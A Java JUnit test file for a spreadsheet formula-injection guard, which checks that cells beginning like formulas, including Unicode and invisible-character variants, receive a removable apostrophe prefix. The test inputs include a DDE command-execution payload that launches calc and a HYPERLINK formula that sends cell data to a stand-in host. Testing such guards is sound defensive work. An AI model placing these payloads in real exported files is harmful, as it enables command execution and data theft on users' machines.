package fr.voix.base.text;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What OWASP lists as the beginning of a formula, and ways around a guard that looks at the first character alone. */
class FormulaGuardTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(1)",
                "\t=1+1",
                "\tnothing else",
                "\r=1+1",
                "\rnothing else",
                "\n=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"https://x.example?\"&A1,\"a\")",
                "-2+3+cmd|' /C calc'!D2",
                "\uff1d1+1",
                "\uff0b1",
                "\uff0d1",
                "\uff20SUM(1)",
                "\ufe661+1",
                "\u22121",
                " =1+1",
                "\u00a0=1+1",
                "\u202f=1+1",
                "\u200b=1+1",
                "\ufeff=1+1",
                "\"=1+1\"",
                "'=1+1",
                "\" =1+1",
                "«\u202f=1+1\u202f»",
                "\u0000=1+1",
                "=",
                "-",
            })
    void a_text_that_begins_like_a_formula_gets_an_apostrophe_that_can_be_taken_away(String text) {
        assertThat(FormulaGuard.guarded(text)).isEqualTo("'" + text);
        assertThat(unguarded(FormulaGuard.guarded(text))).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "CF1115",
                "a=1",
                "1-2",
                "l’article 12",
                "'quoted'",
                "«\u202fCité\u202f»",
                "sport-vie-associative",
                "😀 =1",
                "https://voix.example/=1",
            })
    void any_other_text_stays_as_it_is(String text) {
        assertThat(FormulaGuard.guarded(text)).isEqualTo(text);
        assertThat(unguarded(text)).isEqualTo(text);
    }

    /** What the page tells readers to do. */
    private static String unguarded(String cell) {
        return cell.startsWith("'") && FormulaGuard.isLikeFormula(cell.substring(1)) ? cell.substring(1) : cell;
    }
}
